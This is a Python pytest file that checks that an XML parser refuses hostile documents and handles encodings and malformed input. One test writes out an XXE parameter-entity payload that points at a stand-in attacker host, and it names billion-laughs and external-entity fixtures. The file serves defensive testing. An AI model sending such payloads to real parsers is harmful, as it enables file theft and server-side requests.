"""XML is parsed without ever expanding entities or reading DTDs from outside."""

from __future__ import annotations

from pathlib import Path

import pytest

from streams.errors import ParseError, UnsafeInputError
from streams.formats.xml_safety import parse_xml
from streams.formats.xml_text import text_of

FIXTURES = Path(__file__).parent / "fixtures" / "formats"


@pytest.mark.parametrize(
    "name", ["xml_billion_laughs.xml", "xml_external_entity.xml", "xml_external_dtd_file.xml"]
)
def test_hostile_documents_are_refused(name: str) -> None:
    with pytest.raises(UnsafeInputError):
        parse_xml((FIXTURES / name).read_text())


def test_parameter_entities_are_refused() -> None:
    doc = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><x/>'
    with pytest.raises(UnsafeInputError):
        parse_xml(doc)


def test_unsafe_is_a_parse_error_so_callers_can_catch_either() -> None:
    assert issubclass(UnsafeInputError, ParseError)


def test_public_http_dtd_reference_is_allowed_but_not_fetched() -> None:
    root = parse_xml((FIXTURES / "nitf_doc.xml").read_text())
    assert root.tag == "nitf"


def test_declared_encoding_does_not_fight_the_decoded_text() -> None:
    root = parse_xml('<?xml version="1.0" encoding="ISO-8859-1"?><p>Grüße — “ok”</p>')
    assert text_of(root) == "Grüße — “ok”"


def test_html_entities_under_an_unloaded_dtd_become_characters() -> None:
    root = parse_xml('<!DOCTYPE nitf SYSTEM "nitf.dtd"><nitf>caf&eacute; &mdash; bar</nitf>')
    assert text_of(root) == "café — bar"


@pytest.mark.parametrize("doc", ["<nitf><p>open</nitf>", "", "not xml at all", "<a>&bogus;</a>"])
def test_malformed_xml_raises_parse_error(doc: str) -> None:
    with pytest.raises(ParseError) as info:
        parse_xml(doc)
    assert not isinstance(info.value, UnsafeInputError)
